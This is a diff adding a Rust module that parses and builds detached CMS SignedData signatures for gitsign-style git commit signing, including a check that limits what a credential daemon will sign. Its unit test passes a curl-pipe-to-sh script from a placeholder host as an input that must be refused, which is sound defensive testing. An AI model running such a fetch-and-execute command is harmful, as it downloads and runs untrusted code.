@@ -1,0 +1,704 @@
+//! CMS SignedData (RFC 5652) as git signers write it: detached, one signer.
+//!
+//! Parsing keeps the signed attributes exactly as encoded, because the
+//! signature covers those bytes (smimesign stores them unsorted). gpgsm's
+//! BER is normalised to DER first; the normaliser never reorders.
+
+use std::fmt;
+
+use crate::encoding::asn1::{self, tag, Reader, Tlv};
+use crate::encoding::oid;
+use crate::pki::crypto::Hash;
+use crate::pki::x509::{CertError, Certificate};
+
+/// Largest signature accepted, armored or not. gitsign's are ~3–6 KiB; a
+/// corporate chain with CRLs stays far below this.
+pub const MAX_SIGNATURE_LEN: usize = 256 * 1024;
+
+/// Why a signature could not be parsed.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct CmsError(pub String);
+
+impl fmt::Display for CmsError {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        f.write_str(&self.0)
+    }
+}
+
+impl std::error::Error for CmsError {}
+
+impl From<asn1::Error> for CmsError {
+    fn from(e: asn1::Error) -> Self {
+        CmsError(e.to_string())
+    }
+}
+
+impl From<CertError> for CmsError {
+    fn from(e: CertError) -> Self {
+        CmsError(format!("certificate in the signature: {e}"))
+    }
+}
+
+/// How the signer names its certificate.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum SignerId {
+    /// issuer Name (as encoded) and serial INTEGER contents.
+    IssuerSerial {
+        /// The issuer Name element.
+        issuer: Vec<u8>,
+        /// The serial number contents.
+        serial: Vec<u8>,
+    },
+    /// subjectKeyIdentifier.
+    SubjectKeyId(Vec<u8>),
+}
+
+/// An attribute: its type and the raw encoding of each value.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Attribute {
+    /// attrType contents.
+    pub oid: Vec<u8>,
+    /// attrValues, each a whole TLV.
+    pub values: Vec<Vec<u8>>,
+}
+
+/// The one SignerInfo of a git signature.
+#[derive(Debug, Clone)]
+pub struct SignerInfo {
+    /// Which certificate signed.
+    pub sid: SignerId,
+    /// digestAlgorithm.
+    pub digest: Hash,
+    /// The signed attributes re-tagged as `SET OF` (0x31): the exact bytes
+    /// the signature covers.
+    pub signed_attrs_der: Vec<u8>,
+    /// The signed attributes, in stored order.
+    pub signed_attrs: Vec<Attribute>,
+    /// signatureAlgorithm element.
+    pub signature_algorithm: Vec<u8>,
+    /// The signature value.
+    pub signature: Vec<u8>,
+    /// Unsigned attributes, in stored order.
+    pub unsigned_attrs: Vec<Attribute>,
+}
+
+/// A parsed detached SignedData.
+#[derive(Debug, Clone)]
+pub struct SignedData {
+    /// Certificates carried in the signature, in order.
+    pub certificates: Vec<Certificate>,
+    /// The signer.
+    pub signer: SignerInfo,
+    /// True when the input was BER and had to be normalised.
+    pub was_ber: bool,
+}
+
+/// Turns git's signature text into CMS DER: PEM `SIGNED MESSAGE` (also
+/// `PKCS7`/`CMS`, which other tools write), or raw DER.
+pub fn unarmor(sig: &[u8]) -> Result<Vec<u8>, CmsError> {
+    if sig.len() > MAX_SIGNATURE_LEN {
+        return Err(CmsError(format!(
+            "the signature is {} bytes, larger than the {MAX_SIGNATURE_LEN}-byte limit",
+            sig.len()
+        )));
+    }
+    let trimmed = sig.trim_ascii_start();
+    if trimmed.is_empty() {
+        return Err(CmsError("the signature is empty".into()));
+    }
+    if trimmed.starts_with(b"-----BEGIN") {
+        let text = std::str::from_utf8(trimmed)
+            .map_err(|_| CmsError("the signature armor is not text".into()))?;
+        let blocks = crate::encoding::pem::decode_all(text)
+            .map_err(|e| CmsError(format!("unparseable signature: {e}")))?;
+        if blocks.len() > 1 {
+            return Err(CmsError(format!(
+                "ambiguous signature: it holds {} signature blocks where git signatures have one \
+                 (a duplicated gpgsig header?)",
+                blocks.len()
+            )));
+        }
+        let b = blocks
+            .into_iter()
+            .next()
+            .ok_or_else(|| CmsError("no PEM block".into()))?;
+        if !matches!(b.label.as_str(), "SIGNED MESSAGE" | "PKCS7" | "CMS") {
+            return Err(CmsError(format!(
+                "unparseable signature: PEM block is labelled \"{}\", expected \"SIGNED MESSAGE\"",
+                b.label
+            )));
+        }
+        if b.der.is_empty() {
+            return Err(CmsError(
+                "unparseable signature: the PEM block is empty".into(),
+            ));
+        }
+        return Ok(b.der);
+    }
+    if trimmed[0] == tag::SEQUENCE {
+        return Ok(trimmed.to_vec());
+    }
+    Err(CmsError(
+        "unparseable signature: neither PEM (-----BEGIN SIGNED MESSAGE-----) nor DER".into(),
+    ))
+}
+
+fn parse_attributes(set_contents: &[u8], what: &'static str) -> Result<Vec<Attribute>, CmsError> {
+    let mut r = Reader::new(set_contents);
+    let mut out = Vec::new();
+    while !r.is_empty() {
+        let attr = r.read(tag::SEQUENCE, what)?;
+        let mut ar = attr.reader();
+        let oid = ar.read(tag::OID, what)?.value.to_vec();
+        let values = ar.read(tag::SET, what)?;
+        ar.finish(what)?;
+        let mut vr = values.reader();
+        let mut vals = Vec::new();
+        while !vr.is_empty() {
+            vals.push(vr.read_any(what)?.raw.to_vec());
+        }
+        out.push(Attribute { oid, values: vals });
+    }
+    Ok(out)
+}
+
+fn parse_signer_info(si: Tlv<'_>) -> Result<SignerInfo, CmsError> {
+    let w = "SignerInfo";
+    let mut r = si.reader();
+    let version = r.read(tag::INTEGER, w)?.small_uint(w)?;
+    let sid = match r.peek_tag() {
+        Some(tag::SEQUENCE) => {
+            let ias = r.read(tag::SEQUENCE, "IssuerAndSerialNumber")?;
+            if version != 1 {
+                return Err(CmsError(format!(
+                    "SignerInfo version {version} does not match its issuer-and-serial signer id"
+                )));
+            }
+            let mut ir = ias.reader();
+            let issuer = ir
+                .read(tag::SEQUENCE, "IssuerAndSerialNumber issuer")?
+                .raw
+                .to_vec();
+            let serial = ir
+                .read(tag::INTEGER, "IssuerAndSerialNumber serial")?
+                .value
+                .to_vec();
+            ir.finish("IssuerAndSerialNumber")?;
+            SignerId::IssuerSerial { issuer, serial }
+        }
+        Some(t) if t == tag::context(0, false) => {
+            SignerId::SubjectKeyId(r.read_any(w)?.value.to_vec())
+        }
+        _ => {
+            return Err(CmsError(
+                "SignerInfo has no recognisable signer identifier".into(),
+            ))
+        }
+    };
+    let digest_alg = r.read(tag::SEQUENCE, "digestAlgorithm")?;
+    let digest_oid = digest_alg.reader().read(tag::OID, "digestAlgorithm")?.value;
+    let digest = Hash::from_oid(digest_oid).ok_or_else(|| {
+        CmsError(format!(
+            "unsupported digest algorithm {}",
+            asn1::oid_to_string(digest_oid)
+        ))
+    })?;
+    let (signed_attrs_der, signed_attrs) =
+        match r.read_optional(tag::context(0, true), "signedAttrs")? {
+            Some(sa) => {
+                // The signature covers the attributes with the universal SET tag
+                // in place of the implicit [0].
+                let mut der = sa.raw.to_vec();
+                der[0] = tag::SET;
+                (der, parse_attributes(sa.value, "signed attribute")?)
+            }
+            None => {
+                return Err(CmsError(
+                    "the signature has no signed attributes (git signers always write them)".into(),
+                ))
+            }
+        };
+    let signature_algorithm = r.read(tag::SEQUENCE, "signatureAlgorithm")?.raw.to_vec();
+    let signature = r.read(tag::OCTET_STRING, "signature")?.value.to_vec();
+    let unsigned_attrs = match r.read_optional(tag::context(1, true), "unsignedAttrs")? {
+        Some(ua) => parse_attributes(ua.value, "unsigned attribute")?,
+        None => Vec::new(),
+    };
+    r.finish(w)?;
+    Ok(SignerInfo {
+        sid,
+        digest,
+        signed_attrs_der,
+        signed_attrs,
+        signature_algorithm,
+        signature,
+        unsigned_attrs,
+    })
+}
+
+impl SignedData {
+    /// Parses a detached SignedData with exactly one signer.
+    pub fn from_der(input: &[u8]) -> Result<SignedData, CmsError> {
+        if input.len() > MAX_SIGNATURE_LEN {
+            return Err(CmsError(
+                "the signature is larger than the size limit".into(),
+            ));
+        }
+        let (der, was_ber) = if asn1::needs_ber_normalisation(input) {
+            (
+                asn1::ber_to_der(input)
+                    .map_err(|e| CmsError(format!("unparseable signature: {e}")))?,
+                true,
+            )
+        } else {
+            (input.to_vec(), false)
+        };
+        Self::parse_der(&der, was_ber, None)
+            .map(|(sd, _)| sd)
+            .map_err(|e| {
+                if e.0.starts_with("unparseable") || e.0.starts_with("certificate") {
+                    e
+                } else {
+                    CmsError(format!("unparseable signature: {e}"))
+                }
+            })
+    }
+
+    /// Parses a SignedData with exactly one signer that encapsulates its
+    /// content, of type `content_type` (an RFC 3161 TimeStampToken carries
+    /// its TSTInfo this way). Returns the SignedData and the eContent
+    /// octets. Git signatures never take this path: [`SignedData::from_der`]
+    /// stays detached-only.
+    pub fn from_der_encapsulated(
+        input: &[u8],
+        content_type: &[u8],
+    ) -> Result<(SignedData, Vec<u8>), CmsError> {
+        if input.len() > MAX_SIGNATURE_LEN {
+            return Err(CmsError(
+                "the CMS structure is larger than the size limit".into(),
+            ));
+        }
+        let (der, was_ber) = if asn1::needs_ber_normalisation(input) {
+            (asn1::ber_to_der(input)?, true)
+        } else {
+            (input.to_vec(), false)
+        };
+        let (sd, content) = Self::parse_der(&der, was_ber, Some(content_type))?;
+        let content =
+            content.ok_or_else(|| CmsError("the encapsulated content is missing".into()))?;
+        Ok((sd, content))
+    }
+
+    /// `encapsulated`: `None` for a detached id-data signature (git's), or
+    /// the content type that must be encapsulated.
+    fn parse_der(
+        der: &[u8],
+        was_ber: bool,
+        encapsulated: Option<&[u8]>,
+    ) -> Result<(SignedData, Option<Vec<u8>>), CmsError> {
+        let ci = asn1::parse_single(der, tag::SEQUENCE, "ContentInfo")?;
+        let mut r = ci.reader();
+        let ct = r.read(tag::OID, "ContentInfo contentType")?;
+        if ct.value != oid::SIGNED_DATA {
+            return Err(CmsError(format!(
+                "the CMS content is {}, not SignedData",
+                asn1::oid_to_string(ct.value)
+            )));
+        }
+        let content = r.read(tag::context(0, true), "ContentInfo content")?;
+        r.finish("ContentInfo")?;
+        let sd = asn1::parse_single(content.value, tag::SEQUENCE, "SignedData")?;
+        let mut s = sd.reader();
+        s.read(tag::INTEGER, "SignedData version")?;
+        s.read(tag::SET, "digestAlgorithms")?;
+        let eci = s.read(tag::SEQUENCE, "encapContentInfo")?;
+        let mut er = eci.reader();
+        let ect = er.read(tag::OID, "eContentType")?;
+        let econtent = er.read_optional(tag::context(0, true), "eContent")?;
+        er.finish("encapContentInfo")?;
+        let content = match encapsulated {
+            None => {
+                if ect.value != oid::DATA {
+                    return Err(CmsError(format!(
+                        "the signed content type is {}, not id-data",
+                        asn1::oid_to_string(ect.value)
+                    )));
+                }
+                if econtent.is_some() {
+                    return Err(CmsError(
+                        "the signature embeds its content; git signatures are detached".into(),
+                    ));
+                }
+                None
+            }
+            Some(expected) => {
+                if ect.value != expected {
+                    return Err(CmsError(format!(
+                        "the encapsulated content type is {}, not {}",
+                        asn1::oid_to_string(ect.value),
+                        asn1::oid_to_string(expected)
+                    )));
+                }
+                let ec = econtent
+                    .ok_or_else(|| CmsError("the encapsulated content is missing".into()))?;
+                let os = asn1::parse_single(ec.value, tag::OCTET_STRING, "eContent")?;
+                Some(os.value.to_vec())
+            }
+        };
+        let mut certificates = Vec::new();
+        if let Some(certs) = s.read_optional(tag::context(0, true), "certificates")? {
+            let mut cr = certs.reader();
+            while !cr.is_empty() {
+                let c = cr.read_any("certificates")?;
+                if c.tag == tag::SEQUENCE {
+                    certificates.push(Certificate::from_der(c.raw.to_vec())?);
+                }
+                // Other CertificateChoices (attribute certificates) play no part.
+            }
+        }
+        // CRLs are carried by some corporate signers; revocation is out of
+        // scope for short-lived Fulcio certificates.
+        s.read_optional(tag::context(1, true), "crls")?;
+        let infos = s.read(tag::SET, "signerInfos")?;
+        s.finish("SignedData")?;
+        let mut ir = infos.reader();
+        let mut signers = Vec::new();
+        while !ir.is_empty() {
+            signers.push(ir.read(tag::SEQUENCE, "SignerInfo")?);
+        }
+        let signer = match signers.as_slice() {
+            [one] => parse_signer_info(*one)?,
+            [] => return Err(CmsError("the signature has no signer".into())),
+            many => {
+                return Err(CmsError(format!(
+                    "the signature has {} signers; a git signature must have exactly one",
+                    many.len()
+                )))
+            }
+        };
+        Ok((
+            SignedData {
+                certificates,
+                signer,
+                was_ber,
+            },
+            content,
+        ))
+    }
+
+    /// The certificate the SignerInfo names, if carried.
+    pub fn signer_certificate(&self) -> Option<&Certificate> {
+        self.certificates.iter().find(|c| match &self.signer.sid {
+            SignerId::IssuerSerial { issuer, serial } => {
+                c.issuer() == issuer.as_slice() && c.serial() == serial.as_slice()
+            }
+            SignerId::SubjectKeyId(ski) => c.subject_key_id() == Some(ski.as_slice()),
+        })
+    }
+}
+
+impl SignerInfo {
+    fn single_value(
+        attrs: &[Attribute],
+        id: &[u8],
+        name: &str,
+    ) -> Result<Option<Vec<u8>>, CmsError> {
+        let mut found = attrs.iter().filter(|a| a.oid == id);
+        let Some(a) = found.next() else {
+            return Ok(None);
+        };
+        if found.next().is_some() {
+            return Err(CmsError(format!(
+                "the {name} attribute appears more than once"
+            )));
+        }
+        match a.values.as_slice() {
+            [v] => Ok(Some(v.clone())),
+            _ => Err(CmsError(format!(
+                "the {name} attribute must have exactly one value"
+            ))),
+        }
+    }
+
+    /// The messageDigest attribute's value.
+    pub fn message_digest(&self) -> Result<Vec<u8>, CmsError> {
+        let v = Self::single_value(&self.signed_attrs, oid::MESSAGE_DIGEST, "messageDigest")?
+            .ok_or_else(|| CmsError("the signature has no messageDigest attribute".into()))?;
+        Ok(asn1::parse_single(&v, tag::OCTET_STRING, "messageDigest")?
+            .value
+            .to_vec())
+    }
+
+    /// Checks the contentType attribute says id-data.
+    pub fn check_content_type(&self) -> Result<(), CmsError> {
+        if self.content_type()? != oid::DATA {
+            return Err(CmsError("the contentType attribute is not id-data".into()));
+        }
+        Ok(())
+    }
+
+    /// The contentType attribute's OBJECT IDENTIFIER contents.
+    pub fn content_type(&self) -> Result<Vec<u8>, CmsError> {
+        let v = Self::single_value(&self.signed_attrs, oid::CONTENT_TYPE, "contentType")?
+            .ok_or_else(|| CmsError("the signature has no contentType attribute".into()))?;
+        Ok(asn1::parse_single(&v, tag::OID, "contentType")?
+            .value
+            .to_vec())
+    }
+
+    /// The single value of signed attribute `id`, if present.
+    pub fn signed_value(&self, id: &[u8], name: &str) -> Result<Option<Vec<u8>>, CmsError> {
+        Self::single_value(&self.signed_attrs, id, name)
+    }
+
+    /// The signingTime attribute, if present (an unverified claim of the signer).
+    pub fn signing_time(&self) -> Result<Option<i64>, CmsError> {
+        match Self::single_value(&self.signed_attrs, oid::SIGNING_TIME, "signingTime")? {
+            Some(v) => {
+                let mut r = Reader::new(&v);
+                let t = r.read_any("signingTime")?;
+                r.finish("signingTime")?;
+                Ok(Some(t.time("signingTime")?))
+            }
+            None => Ok(None),
+        }
+    }
+
+    /// The single value of unsigned attribute `id`, if present.
+    pub fn unsigned_value(&self, id: &[u8], name: &str) -> Result<Option<Vec<u8>>, CmsError> {
+        Self::single_value(&self.unsigned_attrs, id, name)
+    }
+}
+
+/// Encodes a `SET OF` with its elements in DER order (sorted by encoding).
+pub fn der_set_of(mut elements: Vec<Vec<u8>>) -> Vec<u8> {
+    elements.sort();
+    let parts: Vec<&[u8]> = elements.iter().map(Vec::as_slice).collect();
+    asn1::encode_parts(tag::SET, &parts)
+}
+
+fn attribute(id: &[u8], value: &[u8]) -> Vec<u8> {
+    let oid = asn1::encode(tag::OID, id);
+    let set = asn1::encode(tag::SET, value);
+    asn1::encode_parts(tag::SEQUENCE, &[&oid, &set])
+}
+
+/// UTCTime (RFC 5280: years 1950–2049) for a Unix time.
+pub fn utc_time(t: i64) -> Vec<u8> {
+    let s = crate::encoding::time::format_time(t); // 2023-06-05T16:11:20Z
+    let b = s.as_bytes();
+    let digits: String = [
+        &b[2..4],
+        &b[5..7],
+        &b[8..10],
+        &b[11..13],
+        &b[14..16],
+        &b[17..19],
+    ]
+    .iter()
+    .map(|p| String::from_utf8_lossy(p).into_owned())
+    .collect();
+    asn1::encode(tag::UTC_TIME, format!("{digits}Z").as_bytes())
+}
+
+/// The signed attributes gitsign writes — contentType id-data, signingTime,
+/// messageDigest SHA-256(payload) — as the DER `SET OF` the signature covers.
+pub fn signed_attributes(payload: &[u8], signing_time: i64) -> Vec<u8> {
+    signed_attributes_for_digest(&crate::pki::crypto::sha256(payload), signing_time)
+}
+
+/// [`signed_attributes`] for a payload whose SHA-256 is `digest`.
+pub fn signed_attributes_for_digest(digest: &[u8; 32], signing_time: i64) -> Vec<u8> {
+    let content_type = attribute(oid::CONTENT_TYPE, &asn1::encode(tag::OID, oid::DATA));
+    let time = attribute(oid::SIGNING_TIME, &utc_time(signing_time));
+    let digest = attribute(
+        oid::MESSAGE_DIGEST,
+        &asn1::encode(tag::OCTET_STRING, digest),
+    );
+    der_set_of(vec![content_type, time, digest])
+}
+
+/// Largest message [`check_signable`] looks at (gitsign's signed
+/// attributes are about 100 bytes).
+const MAX_SIGNABLE: usize = 1024;
+
+/// Checks that `message` is one of the two things gitsign ever asks a key
+/// holder (the credential cache daemon) to sign, and nothing else: the DER
+/// signed attributes of a git signature, exactly as [`signed_attributes`]
+/// lays them out (contentType id-data, a UTCTime signingTime, a 32-byte
+/// messageDigest, in DER order, nothing more), or a git object id as
+/// online mode logs it (40 or 64 lowercase hex digits). Anything else (an
+/// artifact, a token's subject, another protocol's bytes) is refused with
+/// a sentence, so that whoever reaches the daemon cannot have it sign what
+/// a Sigstore verifier of artifacts would accept.
+pub fn check_signable(message: &[u8]) -> Result<(), String> {
+    let refused = |what: &str| {
+        Err(format!(
+            "refused to sign {what}: the credential cache signs only what gitsign signs, the \
+             DER signed attributes of a git commit or tag signature (contentType, signingTime, \
+             messageDigest) or a lowercase hex git object id (40 or 64 digits)"
+        ))
+    };
+    if matches!(message.len(), 40 | 64)
+        && message
+            .iter()
+            .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(b))
+    {
+        return Ok(());
+    }
+    if message.len() > MAX_SIGNABLE {
+        return refused(&format!("a message of {} bytes", message.len()));
+    }
+    match parse_signed_attributes(message) {
+        Some((digest, time)) if signed_attributes_for_digest(&digest, time) == message => Ok(()),
+        Some(_) => refused("signed attributes in another layout than gitsign's"),
+        None => refused(&format!(
+            "a message of {} bytes that is neither",
+            message.len()
+        )),
+    }
+}
+
+/// The messageDigest and signingTime of DER signed attributes that hold
+/// exactly contentType, signingTime and messageDigest (32 bytes).
+fn parse_signed_attributes(der: &[u8]) -> Option<([u8; 32], i64)> {
+    let set = asn1::parse_single(der, tag::SET, "signed attributes").ok()?;
+    let mut r = set.reader();
+    let (mut digest, mut time, mut content_type) = (None, None, false);
+    for _ in 0..3 {
+        let attr = r.read(tag::SEQUENCE, "attribute").ok()?;
+        let mut a = attr.reader();
+        let id = a.read(tag::OID, "attribute type").ok()?;
+        let values = a.read(tag::SET, "attribute values").ok()?;
+        a.finish("attribute").ok()?;
+        let value =
+            asn1::parse_single(values.value, values.value.first().copied()?, "value").ok()?;
+        match id.value {
+            x if x == oid::CONTENT_TYPE && value.tag == tag::OID && value.value == oid::DATA => {
+                content_type = true
+            }
+            x if x == oid::SIGNING_TIME && value.tag == tag::UTC_TIME => {
+                time = Some(value.time("signingTime").ok()?)
+            }
+            x if x == oid::MESSAGE_DIGEST && value.tag == tag::OCTET_STRING => {
+                digest = Some(<[u8; 32]>::try_from(value.value).ok()?)
+            }
+            _ => return None,
+        }
+    }
+    r.finish("signed attributes").ok()?;
+    if !content_type {
+        return None;
+    }
+    Some((digest?, time?))
+}
+
+/// The unsigned attribute carrying a Rekor `TransparencyLogEntry` (protobuf).
+pub fn tlog_attribute(entry_protobuf: &[u8]) -> Vec<u8> {
+    attribute(
+        oid::REKOR_TLOG_ENTRY,
+        &asn1::encode(tag::OCTET_STRING, entry_protobuf),
+    )
+}
+
+/// Builds a detached SignedData in Go gitsign's layout: SHA-256, id-data,
+/// the leaf certificate only, one SignerInfo by issuer and serial,
+/// ecdsa-with-SHA256, optional unsigned attributes.
+pub fn build_signed_data(
+    signed_attrs_der: &[u8],
+    signature: &[u8],
+    leaf: &Certificate,
+    unsigned_attrs: &[Vec<u8>],
+) -> Vec<u8> {
+    let sha256_alg = asn1::encode(tag::SEQUENCE, &asn1::encode(tag::OID, oid::SHA256));
+    let version = asn1::encode(tag::INTEGER, &[1]);
+    let digest_algs = asn1::encode(tag::SET, &sha256_alg);
+    let encap = asn1::encode(tag::SEQUENCE, &asn1::encode(tag::OID, oid::DATA));
+    let certs = asn1::encode(tag::context(0, true), leaf.der());
+    let ias = asn1::encode_parts(
+        tag::SEQUENCE,
+        &[leaf.issuer(), &asn1::encode(tag::INTEGER, leaf.serial())],
+    );
+    // [0] IMPLICIT: the SET's contents under the context tag.
+    let mut signed = signed_attrs_der.to_vec();
+    signed[0] = tag::context(0, true);
+    let sig_alg = asn1::encode(tag::SEQUENCE, &asn1::encode(tag::OID, oid::ECDSA_SHA256));
+    let sig = asn1::encode(tag::OCTET_STRING, signature);
+    let mut si_parts: Vec<&[u8]> = vec![&version, &ias, &sha256_alg, &signed, &sig_alg, &sig];
+    let unsigned;
+    if !unsigned_attrs.is_empty() {
+        let set = der_set_of(unsigned_attrs.to_vec());
+        let mut u = set;
+        u[0] = tag::context(1, true);
+        unsigned = u;
+        si_parts.push(&unsigned);
+    }
+    let signer_info = asn1::encode_parts(tag::SEQUENCE, &si_parts);
+    let signer_infos = asn1::encode(tag::SET, &signer_info);
+    let sd = asn1::encode_parts(
+        tag::SEQUENCE,
+        &[&version, &digest_algs, &encap, &certs, &signer_infos],
+    );
+    let content = asn1::encode(tag::context(0, true), &sd);
+    asn1::encode_parts(
+        tag::SEQUENCE,
+        &[&asn1::encode(tag::OID, oid::SIGNED_DATA), &content],
+    )
+}
+
+/// PEM armor as git stores CMS signatures.
+pub fn armor(der: &[u8]) -> String {
+    crate::encoding::pem::encode("SIGNED MESSAGE", der)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_gitsign_shapes_are_signable() {
+        let attrs = signed_attributes(b"tree x\n", 1_790_000_000);
+        check_signable(&attrs).unwrap();
+        check_signable(b"0123456789abcdef0123456789abcdef01234567").unwrap();
+        check_signable(&[b'a'; 64]).unwrap();
+        let refused = |m: &[u8]| {
+            let e = check_signable(m).unwrap_err();
+            assert!(e.contains("signs only what gitsign signs"), "{e}");
+        };
+        refused(b"");
+        refused(b"#!/bin/sh\ncurl https://example.invalid | sh\n");
+        refused(b"0123456789ABCDEF0123456789ABCDEF01234567");
+        refused(&[b'a'; 41]);
+        refused(&[b'a'; 1 << 20]);
+        // Gitsign's layout and nothing else: an extra attribute, a missing
+        // one, another digest length, another content type, the elements
+        // out of DER order, trailing bytes.
+        let ct = attribute(oid::CONTENT_TYPE, &asn1::encode(tag::OID, oid::DATA));
+        let time = attribute(oid::SIGNING_TIME, &utc_time(1_790_000_000));
+        let digest = attribute(
+            oid::MESSAGE_DIGEST,
+            &asn1::encode(tag::OCTET_STRING, &[7u8; 32]),
+        );
+        check_signable(&der_set_of(vec![ct.clone(), time.clone(), digest.clone()])).unwrap();
+        let extra = attribute(oid::SIGNING_TIME, &utc_time(1));
+        refused(&der_set_of(vec![
+            ct.clone(),
+            time.clone(),
+            digest.clone(),
+            extra,
+        ]));
+        refused(&der_set_of(vec![ct.clone(), time.clone()]));
+        let short = attribute(
+            oid::MESSAGE_DIGEST,
+            &asn1::encode(tag::OCTET_STRING, &[7u8; 20]),
+        );
+        refused(&der_set_of(vec![ct.clone(), time.clone(), short]));
+        let other_ct = attribute(oid::CONTENT_TYPE, &asn1::encode(tag::OID, oid::SIGNED_DATA));
+        refused(&der_set_of(vec![other_ct, time.clone(), digest.clone()]));
+        let parts: Vec<&[u8]> = vec![&digest, &time, &ct];
+        refused(&asn1::encode_parts(tag::SET, &parts));
+        let mut trailing = attrs.clone();
+        trailing.push(0);
+        refused(&trailing);
+    }
+}
